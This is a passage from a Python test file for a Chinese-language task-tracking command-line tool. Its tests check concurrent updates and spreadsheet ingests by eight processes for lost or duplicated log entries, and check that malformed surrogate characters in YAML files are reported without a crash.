        args = ["update", *keys[(i + 7 * worker) % len(keys)], "--note", f"w{worker}-{i}", "--by", f"单位{worker}"]
    try:
        main(args)
        code = 0
    except SystemExit as exit_:
        code = exit_.code or 0
    if code == 0 and args[0] == "update":
        done.append(f"w{worker}-{i}")
    elif code != 0:
        sys.__stderr__.write(f"{args}: exit {code}\n")
sys.__stdout__.write("\n".join(done) + "\n")
"""


def test_eight_writers_two_hundred_mixed_updates_and_ingests_then_check_is_clean(tracker, tmp_path, capsys):
    """8 processes x 200 operations (update, and every tenth an ingest of one of
    three sheets that the others ingest too), then check: exit 0, every
    acknowledged update present once, every sheet row recorded once."""
    from test_robustness import distinct_keys

    workers, count = 8, 200
    sheets = []
    rows = 0
    for k, unit in enumerate(("区科经局", "区发改局", "区财政局")):
        rows += _filled_sheet(tracker, capsys, unit, f"sheet{k}.xlsx", f"表{k}-")
        sheets.append(f"sheet{k}.xlsx")
    keys = distinct_keys(tracker)
    env = dict(os.environ, PYTHONPATH=str(REPO) + os.pathsep + os.environ.get("PYTHONPATH", ""))
    signals = tmp_path / "signals"
    signals.mkdir()
    go = signals / "go"
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", MIXED, str(k), str(count), str(signals / f"ready-{k}"), str(go), ";".join(sheets),
             ";".join("|".join(key) for key in keys)],
            cwd=tracker, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        )
        for k in range(workers)
    ]
    reported: list[str] = []
    try:
        deadline = time.monotonic() + 60
        while len(list(signals.glob("ready-*"))) < workers and time.monotonic() < deadline:
            time.sleep(0.01)
        go.touch()
        for proc in procs:
            out, err = proc.communicate(timeout=400)
            assert proc.returncode == 0 and not err, err
            reported += out.split()
    finally:
        for proc in procs:
            if proc.poll() is None:
                proc.kill()
                proc.wait(timeout=10)
    assert len(reported) == workers * (count - count // 10)
    entries, problems = read_log((tracker / LOG).read_text(encoding="utf-8"), Q2, LOG)
    assert problems == []
    notes = [e.note for e in entries if e.note and e.note.startswith("w")]
    assert sorted(notes) == sorted(reported)
    sheet_rows = [e for e in entries if e.note and e.note.startswith("表")]
    assert len(sheet_rows) == rows  # each row of each sheet once, however many ingested it
    code, out, err = run(capsys, "check")
    assert code == 0, out + err


@pytest.mark.parametrize("name", ["tasks.yaml", "units.yaml"])
def test_11_a_lone_surrogate_escape_in_tasks_or_units_yaml_is_named(tracker, capsys, name):
    """Before: list --format json crashed with UnicodeEncodeError; check said nothing."""
    path = tracker / name
    text = path.read_text(encoding="utf-8")
    old = next(line for line in text.splitlines() if "区科经局" in line and not line.lstrip().startswith("#"))
    new = old.replace("区科经局", '"区科经局\\ud800"', 1)
    line = text[: text.index(old)].count("\n") + 1
    path.write_text(text.replace(old, new, 1), encoding="utf-8")
    code, out, err = run(capsys, "check")
    assert code == 1 and f"{name}:{line}" in out + err and "代理项" in out + err, out + err
    code, out, err = run(capsys, "list", "--format", "json")
    assert code == 2 and "Traceback" not in err and "代理项" in err
